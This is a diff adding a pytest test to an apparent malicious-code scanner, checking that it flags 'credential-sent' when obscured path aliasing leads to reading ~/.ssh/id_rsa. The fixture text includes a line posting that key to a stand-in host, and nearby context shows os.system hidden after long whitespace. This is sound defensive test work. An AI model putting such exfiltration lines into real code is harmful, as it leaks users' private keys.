@@ -253,6 +253,21 @@ class TestThreats:
         assert found(text, "threat", "pkg/setup.py") == [("network-at-install", 3)]
         assert found(text, "threat", "pkg/client.py") == []
 
+    @pytest.mark.parametrize(
+        "tangle",
+        [
+            "key = os.path.join('/', a, Path.home(), '.ssh', 'id_rsa')",
+            "".join(f"x{n} = a + a\n" for n in range(300)) + "key = Path.home() / '.ssh' / 'id_rsa'",
+        ],
+    )
+    def test_names_that_multiply_hide_nothing(self, tangle: str) -> None:
+        """However many ways lead through a file's names, what comes of them is seen."""
+        names = "a = os.path.join(a, a, a, a, a, a, a, a, a, a)\n" * 4
+        text = f"import os, requests\nfrom pathlib import Path\n{names}{tangle}\n"
+        text += "requests.post('http://host.example', data=open(key).read())"
+
+        assert "credential-sent" in {code for code, _ in found(text, "threat")}
+
     def test_code_pushed_out_of_sight_is_a_threat(self) -> None:
         """A statement far to the right of a semicolon is there to be missed."""
         text = "import os;" + " " * 200 + "os.system('x')"
